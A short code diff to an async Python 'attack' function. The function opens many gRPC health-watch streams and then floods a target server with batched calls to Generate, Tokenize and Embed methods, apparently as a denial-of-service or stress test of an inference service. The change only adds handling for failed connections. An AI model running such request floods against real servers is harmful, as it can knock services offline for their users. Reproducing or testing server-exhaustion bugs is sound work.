@@ -20,7 +20,11 @@ async def attack(target: Target, seen: Seen) -> None:
         ]
         health = health_pb2_grpc.HealthStub(channel)
         watches = [health.Watch(health_pb2.HealthCheckRequest()) for _ in range(WATCHES)]
-        connection = await Connection.open(target.address)
+        try:
+            connection = await Connection.open(target.address)
+        except OSError:  # the server is being ended
+            seen["not connected"] += 1
+            return
         methods = ("Generate", "Tokenize", "Embed")
         await connection.send(
             b"".join(call(2 * at + 1, SERVICE + methods[at % 3], target.metadata) for at in range(HEADERS))
